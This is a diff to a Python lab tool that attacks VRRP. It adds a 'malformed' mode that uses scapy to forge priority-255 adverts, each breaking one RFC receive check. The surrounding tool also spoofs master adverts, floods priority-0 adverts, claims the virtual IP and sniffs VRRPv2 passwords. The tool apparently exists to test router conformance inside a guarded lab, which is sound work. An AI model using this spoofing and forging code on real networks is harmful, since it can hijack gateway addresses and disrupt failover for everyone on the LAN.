@@ -12,10 +12,16 @@ Modes:
 - zero-storm: forge priority-0 adverts in the master's name, `--rate` per second,
   forcing the backups into elections over and over.
 - sniff: print the first advert's password (what anyone on the LAN can read).
+- malformed: a bounded batch of hostile adverts, `--count` of each kind in
+  `MALFORMED`, from our own address: priority 255 with a TTL of 64, with a
+  wrong checksum, with an unknown version, cut short, for another VRID, with a
+  wrong VRRPv2 password (skipped for VRRPv3, which has no authentication).
+  Each breaks one RFC 5798 §7.1 / RFC 3768 §7.1 receive check, so a correct
+  router discards all of them; then it exits.
 
 It reports on stdout as JSON lines (`sniffed` with the password read,
-`forging`, `stopped` with the count sent); on SIGTERM it stops forging and
-gives back a VIP it claimed.
+`forging`, for malformed one `sent` or `skipped` per kind, `stopped` with the
+count sent); on SIGTERM it stops forging and gives back a VIP it claimed.
 """
 
 from __future__ import annotations
@@ -27,6 +33,9 @@ import signal
 import subprocess
 import sys
 import time
+from typing import Callable
+
+from vrrplab.vrrp.packet import VRRP_TTL
 
 
 class NotInLab(SystemExit):
@@ -77,6 +86,85 @@ def forge(template, src: str, priority: int):
     return IP(src=src, dst="224.0.0.18", ttl=255) / layer
 
 
+# --- malformed: one receive check of RFC 5798 §7.1 / RFC 3768 §7.1 broken per kind ---
+
+HOSTILE_PRIORITY = 255  # what each would claim, were it accepted: the owner's priority
+BAD_TTL = 64  # a common default TTL: a packet from off the link would have at most this
+UNKNOWN_VERSION = 4  # neither VRRPv2 nor VRRPv3
+TRUNCATE_BY = 4  # bytes cut off the end: the last address or password bytes are missing
+WRONG_PASSWORD = b"mallory!"  # 8 bytes, what VRRPv2 PASS carries
+MALFORMED_GAP_S = 0.02  # between two adverts of one kind
+
+
+def message_of(packet) -> bytes:
+    """The VRRP message (IP payload) of a scapy packet, checksums computed."""
+    data = bytes(packet)
+    return data[(data[0] & 0x0F) * 4:]
+
+
+def _vrrp_of(template):
+    from scapy.layers.vrrp import VRRP, VRRPv3
+    return template[VRRPv3] if VRRPv3 in template else template[VRRP]
+
+
+def _reforged(template, src: str, **fields) -> bytes:
+    """A priority-255 message like the template's, with `fields` changed, checksum recomputed."""
+    packet = forge(template, src, HOSTILE_PRIORITY)
+    for name, value in fields.items():
+        setattr(packet.payload, name, value)
+    return message_of(packet)
+
+
+def _hostile_ttl(template, src: str) -> tuple[int, bytes]:
+    return BAD_TTL, _reforged(template, src)  # §7.1: MUST verify the TTL is 255
+
+
+def _hostile_checksum(template, src: str) -> tuple[int, bytes]:
+    message = _reforged(template, src)
+    # XOR 0x5a5a never swaps 0x0000 and 0xffff, one value in one's complement: always wrong
+    wrong = int.from_bytes(message[6:8], "big") ^ 0x5A5A
+    return VRRP_TTL, message[:6] + wrong.to_bytes(2, "big") + message[8:]  # §7.1: MUST verify
+
+
+def _hostile_version(template, src: str) -> tuple[int, bytes]:
+    return VRRP_TTL, _reforged(template, src, version=UNKNOWN_VERSION)  # §7.1: MUST verify
+
+
+def _hostile_truncated(template, src: str) -> tuple[int, bytes]:
+    return VRRP_TTL, _reforged(template, src)[:-TRUNCATE_BY]  # §7.1: MUST verify it is complete
+
+
+def _hostile_vrid(template, src: str) -> tuple[int, bytes]:
+    other = _vrrp_of(template).vrid % 255 + 1  # §7.1: MUST verify the VRID is configured
+    return VRRP_TTL, _reforged(template, src, vrid=other)
+
+
+def _hostile_password(template, src: str) -> tuple[int, bytes] | None:
+    from scapy.layers.vrrp import VRRPv3
+    if VRRPv3 in template:
+        return None  # RFC 5798 §9: VRRPv3 has no authentication to get wrong
+    wrong = WRONG_PASSWORD if password_of(template) != WRONG_PASSWORD.decode() else b"MALLORY?"
+    return VRRP_TTL, _reforged(template, src, authtype=1, auth1=int.from_bytes(wrong[:4], "big"),
+                          auth2=int.from_bytes(wrong[4:], "big"))  # RFC 3768 §7.1
+
+
+MALFORMED = {"ttl": _hostile_ttl, "checksum": _hostile_checksum, "version": _hostile_version,
+             "truncated": _hostile_truncated, "vrid": _hostile_vrid, "password": _hostile_password}
+SKIPPED_WHY = {"password": "VRRPv3 has no authentication (RFC 5798 §9)"}
+
+
+def malformed_advert(template, src: str, kind: str):
+    """The `kind` of hostile advert (an IP packet) from `src`; None where it cannot apply."""
+    from scapy.layers.inet import IP
+    from scapy.packet import Raw
+
+    built = MALFORMED[kind](template, src)
+    if built is None:
+        return None
+    ttl, message = built
+    return IP(src=src, dst="224.0.0.18", ttl=ttl, proto=112) / Raw(message)
+
+
 def claim_vip(iface: str, vip: str) -> None:
     """Take the VIP and tell the LAN (gratuitous ARP), as a master would."""
     from scapy.arch import get_if_hwaddr
@@ -99,15 +187,38 @@ def say(event: str, **fields) -> None:
     print(json.dumps({"t": round(time.time(), 6), "event": event, **fields}), flush=True)
 
 
+def send_malformed(template, iface: str, count: int, running: Callable[[], bool]) -> int:
+    """`count` adverts of each kind in `MALFORMED`, from our own address; then `stopped`."""
+    from scapy.arch import get_if_addr
+    from scapy.sendrecv import send
+
+    src = get_if_addr(iface)
+    say("forging", src=src, priority=HOSTILE_PRIORITY, kinds=list(MALFORMED), count=count)
+    sent = 0
+    for kind in MALFORMED:
+        if not running():
+            break
+        packet = malformed_advert(template, src, kind)
+        if packet is None:
+            say("skipped", kind=kind, why=SKIPPED_WHY[kind])
+            continue
+        send(packet, iface=iface, count=count, inter=MALFORMED_GAP_S, verbose=False)
+        sent += count
+        say("sent", kind=kind, count=count)
+    say("stopped", sent=sent)
+    return 0
+
+
 def main(argv: list[str] | None = None) -> int:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
-    parser.add_argument("mode", choices=("rogue", "zero-storm", "sniff"))
+    parser.add_argument("mode", choices=("rogue", "zero-storm", "sniff", "malformed"))
     parser.add_argument("--iface", default="eth0")
     parser.add_argument("--vrid", type=int, default=10)
     parser.add_argument("--interval", type=float, default=1.0, help="rogue: seconds between adverts")
     parser.add_argument("--rate", type=float, default=20.0, help="zero-storm: adverts per second")
     parser.add_argument("--spoof", help="zero-storm: the master's address to speak for")
     parser.add_argument("--claim-vip", help="rogue: also take this VIP (e.g. 192.168.1.1/24)")
+    parser.add_argument("--count", type=int, default=5, help="malformed: adverts of each kind")
     args = parser.parse_args(argv)
     ensure_inside_lab_node()
 
@@ -125,6 +236,8 @@ def main(argv: list[str] | None = None) -> int:
     say("sniffed", src=template["IP"].src, password=password_of(template))
     if args.mode == "sniff" or not running:  # stopped while still listening
         return 0
+    if args.mode == "malformed":
+        return send_malformed(template, args.iface, args.count, lambda: running)
     if args.mode == "rogue":
         from scapy.arch import get_if_addr
         src, priority, period = get_if_addr(args.iface), 255, args.interval
